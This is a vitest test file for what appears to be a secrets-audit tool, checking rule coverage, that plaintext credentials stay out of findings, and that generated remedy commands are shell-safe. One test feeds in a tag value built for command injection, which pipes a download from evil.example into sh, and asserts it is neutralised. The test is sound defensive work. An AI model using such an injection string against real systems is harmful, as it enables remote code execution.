import { expect, test } from "vitest";
import { ruleIds } from "../../packages/core/src/model/finding.ts";
import { rules } from "../../packages/core/src/plan/rules/index.ts";
import { examples } from "./examples.ts";
import { given, planFor, project, secret } from "./support.ts";

test.each(Object.entries(examples))(
  "%s is found, alone, and its subject counts as examined",
  (id, example) => {
    const plan = planFor(example.world, example.over);
    expect(plan.findings.map(({ rule }) => rule)).toEqual([id]);
    expect(plan.examined).toContainEqual(plan.findings[0]?.subject);
  },
);

test("there is a rule for every id, but the one that has to read the secret's value", () => {
  const without = ruleIds.filter((id) => !rules.some((rule) => rule.id === id));
  expect(without).toEqual(["secret-malformed"]);
  expect(rules.map((rule) => rule.id)).toEqual(rules.map((rule) => rule.id).sort());
});

test("a finding never shows the value of a plaintext variable", () => {
  expect(JSON.stringify(planFor(worldOf("plaintext-credential")))).not.toContain("hunter2");
});

test("a command in a remedy repeats nothing from a tag that a shell would run", () => {
  const tags = { "pullpass/projects": "api '; curl evil.example | sh #" };
  const world = given({ projects: [project("web")], secrets: [secret("registry/hub", { tags })] });
  expect(planFor(world).findings[0]?.remedy).toMatch(
    / --tags '\[\{"Key":"pullpass\/projects","Value":"api curl evil\.example sh web"\}\]'$/,
  );
});

function worldOf(id: keyof typeof examples) {
  return examples[id].world;
}
